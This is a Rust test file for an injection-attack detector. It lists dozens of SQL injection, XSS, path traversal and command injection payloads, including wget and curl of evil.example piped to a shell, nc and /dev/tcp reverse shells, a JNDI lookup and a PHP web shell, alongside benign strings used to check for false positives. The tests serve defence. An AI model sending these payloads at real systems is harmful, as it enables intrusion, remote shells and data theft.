//! What must be found, what must not, and what holds for every text.

mod laws;
mod requests;

use super::*;

fn detector() -> Detector {
    Detector::new(&Options::default())
}

fn told(report: &Report) -> String {
    let rules = report.findings().iter().map(|found| format!("{} {}", found.rule.name, found.rule.weight));
    rules.collect::<Vec<_>>().join(", ")
}

/// Well known ways in, each with what it is aimed at.
const ATTACKS: &[(Category, &[&str])] = &[
    (
        Category::Sql,
        &[
            "' OR '1'='1",
            "' or 1=1--",
            "\" or \"\"=\"",
            "1 or 1=1",
            "1) or (1=1",
            "admin' --",
            "admin'/*",
            "admin' #",
            "' or ''='",
            "' OR 'x' LIKE 'x",
            "1' AND SLEEP(5)-- -",
            "1 AND SLEEP(5)",
            "1;SELECT pg_sleep(5)--",
            "1; WAITFOR DELAY '0:0:5'--",
            "'; DROP TABLE users; --",
            "x'; DELETE FROM users WHERE 'a'='a",
            "1; UPDATE users SET admin=1 WHERE id=3",
            "1'; INSERT INTO users (name) VALUES ('x') --",
            "' UNION SELECT username, password FROM users--",
            "-1 UNION ALL SELECT NULL,NULL,version()--",
            "1 UnIoN/**/SeLeCt 1,2,3",
            "1/*!50000UNION*//*!50000SELECT*/1,2,3",
            "1 union(select(1),(2),(3))",
            "1+UNION+SELECT+1,2,3",
            "1%20union%0aselect%0d1,2",
            "' and extractvalue(1,concat(0x7e,(select version()))) and '1'='1",
            "1 and (select count(*) from information_schema.tables)>0",
            "(select(0)from(select(sleep(5)))v)",
            "1 and ascii(substring((select password from users limit 1),1,1))>64",
            "1 order by 10--",
            "1' order by 3#",
            "' group by 1 having 1=1--",
            "'; exec master..xp_cmdshell 'dir'--",
            "1 into outfile '/var/www/shell.php'",
            "1 procedure analyse(extractvalue(1,concat(0x3a,version())),1)",
            "' || (select 1 from dual) || '",
            "' or exists(select * from users) and ''='",
            "x' AND email IS NULL; --",
            "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
            "1 rlike (select (case when (1=1) then 1 else 0x28 end))",
            "if(now()=sysdate(),sleep(15),0)",
            "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
            "' or true--",
            "' || '1'='1",
            "' && 1=1#",
            "1'||dbms_pipe.receive_message('a',5)||'",
            "' having 1=1--",
            "1 or 2>1",
            "' or 1 in (select @@version)--",
            "1 and 1=convert(int,(select top 1 table_name from information_schema.tables))",
        ],
    ),
    (
        Category::Xss,
        &[
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "\"><script>alert(document.cookie)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg/onload=alert(1)>",
            "<body onload=alert('x')>",
            "\" onmouseover=\"alert(1)",
            "' onfocus='alert(1)' autofocus='",
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java\tscript:alert(1)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
            "<math><a xlink:href=\"javascript:alert(1)\">x",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=\"alert(1)\">",
            "<input autofocus onfocus=alert(1)>",
            "<div style=\"width: expression(alert(1))\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "';alert(String.fromCharCode(88,83,83))//",
            "\"-alert(1)-\"",
            "</script><script>alert(1)</script>",
            "<script\n>alert(1)</script>",
            "＜script＞alert(1)＜/script＞",
            "<marquee onstart=alert(1)>",
            "<x onclick=alert(1)>click",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox(1)",
            "<style>@import 'javascript:alert(1)';</style>",
            "<table background=\"javascript:alert(1)\">",
        ],
    ),
    (
        Category::Traversal,
        &[
            "../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "....//....//....//etc/passwd",
            "..%2f..%2f..%2fetc%2fpasswd",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "..%252f..%252fetc%252fpasswd",
            "..%c0%af..%c0%afetc/passwd",
            "..%u2215..%u2215etc/passwd",
            "/etc/passwd",
            "/etc/passwd%00.png",
            "file:///etc/passwd",
            "php://filter/convert.base64-encode/resource=index.php",
            "/proc/self/environ",
            "C:\\windows\\system32\\drivers\\etc\\hosts",
            "/var/www/../../etc/passwd",
            "images/../../../../etc/shadow",
            "..;/..;/..;/manager",
            "/%5c../%5c../%5c../etc/passwd",
            "expect://id",
        ],
    ),
    (
        Category::Command,
        &[
            "; cat /etc/passwd",
            ";cat /etc/passwd",
            "| cat /etc/passwd",
            "|ls -la",
            "& ping -c 10 127.0.0.1 &",
            "&& whoami",
            "|| whoami",
            "x; whoami",
            "`id`",
            "$(id)",
            "$(cat /etc/passwd)",
            "`cat /etc/passwd`",
            "; wget http://evil.example/x.sh -O- | sh",
            "127.0.0.1; curl http://evil.example/x | bash",
            "127.0.0.1 && nc -e /bin/sh 10.0.0.1 4444",
            "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            ";c\\at /e\\tc/pas\\swd",
            ";cat${IFS}/etc/passwd",
            "; /bin/cat /etc/passwd",
            "%0a/usr/bin/id",
            "() { :;}; /bin/bash -c 'id'",
            "${jndi:ldap://evil.example/a}",
            "<!--#exec cmd=\"ls\"-->",
            "';system('id');//",
            "<?php system($_GET['c']); ?>",
            "{{7*7}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "${@print(md5(1))}",
            "| powershell -enc SQBFAFgA",
            "& dir c:\\",
            "cmd.exe /c dir",
            ";id;",
            "|id",
            "; sleep 10",
            ";sleep 10;",
            "__import__('os').system('id')",
        ],
    ),
];

/// What people, programs and browsers send on an ordinary day.
const ORDINARY: &[&str] = &[
    "O'Brien",
    "Yahoo! (Y!)",
    "cos(accckt)",
    "2104 GRANT AVE #A",
    "D'Arcy and sons -- est. 1901",
    "Smith & Sons; find us at Unit 4",
    "5 > 3 and 2 < 4",
    "a = b or c = d",
    "if x > 0 and y = 1 then stop",
    "select a file from the list and update it",
    "Please select one option from the menu; drop us a line.",
    "the union select committee met in order by noon",
    "delete from my account the old address",
    "drop table reservations at the bar",
    "Having said that, 1 in 3 like it",
    "or is it? '90s rock 'n' roll",
    "He said \"or 'maybe' not\" -- Anon",
    "it's 5 o'clock somewhere, isn't it",
    "1=1",
    "2+2=4",
    "C:\\Users\\me\\Documents\\report.pdf",
    "/usr/share/doc/readme.txt",
    "see /etc/passwd for the list of users",
    "../images/logo.png",
    "../../src/main.rs",
    "https://example.com/a/b?x=1&y=2#z",
    "https://example.com/search?q=a%20b&lang=en",
    "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36",
    "session=abc123; theme=dark; lang=en-GB",
    "Basic dXNlcjpwYXNzd29yZA==",
    "\"33a64df551425fcc55e4d42a148795d9f25f89d4\"",
    "gzip, deflate, br;q=1.0, identity;q=0.5",
    "en-GB,en;q=0.9,de;q=0.8",
    "<3 you & me",
    "I <b>really</b> like it",
    "Use the <script> tag with care",
    "JavaScript: The Good Parts",
    "onclick is an event; so is onload",
    "a << b >> c",
    "x < y && y > z",
    "Vec<Option<Script>>",
    "`cat` is a command, and so is `ls`",
    "Run `cargo test` first; then `git push`.",
    "price: $5 (was $(10))",
    "R&D; cat food; dog food",
    "who; what; where",
    "name;date;type;host",
    "yes | no | maybe",
    "perl | perl5, python3 (>= 3.8) | pypy",
    "time is money; sleep is for the weak",
    "sleep(8) hours a night",
    "wait (5 minutes) or (10)",
    "#1 in sales -- again!",
    "C# and F#",
    "-- Mark Twain",
    "100% of 50% is 50%",
    "caf\u{e9} \u{2014} \u{201c}na\u{ef}ve\u{201d} \u{65e5}\u{672c}\u{8a9e}",
    "SGVsbG8sIHRoaXMgaXMgYSBwbGFpbiBzZW50ZW5jZS4=",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "{\"a\": [1, 2, {\"b\": null}], \"c\": true}",
    "SELECT is a keyword of SQL",
    "How do I use GROUP BY with COUNT(*)?",
    "f(x) = x^2 or f(x) = 1/x",
    "T&C's apply; see https://example.com/tos#s4",
    "user@example.com, o'neil+tag@example.co.uk",
    "+44 (0)20 7946 0958 #12",
    "AND/OR",
    "A&E, B&Q; M&S",
    "[x] done -- (or not)",
    "key='value' other=\"thing\"",
    "if (argc > 1 && strcmp(argv[1], \"-v\") == 0) { exit(1); }",
    "let path = \"../../docs/index.md\";",
    "for i in $(seq 10)",
    "",
    " ",
];

#[test]
fn what_is_known_is_found_for_what_it_is() {
    let mut missed = Vec::new();
    for (category, attacks) in ATTACKS {
        for attack in *attacks {
            let report = detector().scan(attack.as_bytes());
            if !report.categories().any(|found| found == *category) {
                missed.push(format!("{category}: {attack}   [{}]", told(&report)));
            }
        }
    }
    assert!(missed.is_empty(), "\n{}", missed.join("\n"));
}

#[test]
fn ordinary_text_is_no_attack() {
    let mut alarms = Vec::new();
    for text in ORDINARY {
        let report = detector().scan(text.as_bytes());
        if report.is_attack() {
            alarms.push(format!("{text}   [{}]", told(&report)));
        }
    }
    assert!(alarms.is_empty(), "\n{}", alarms.join("\n"));
}
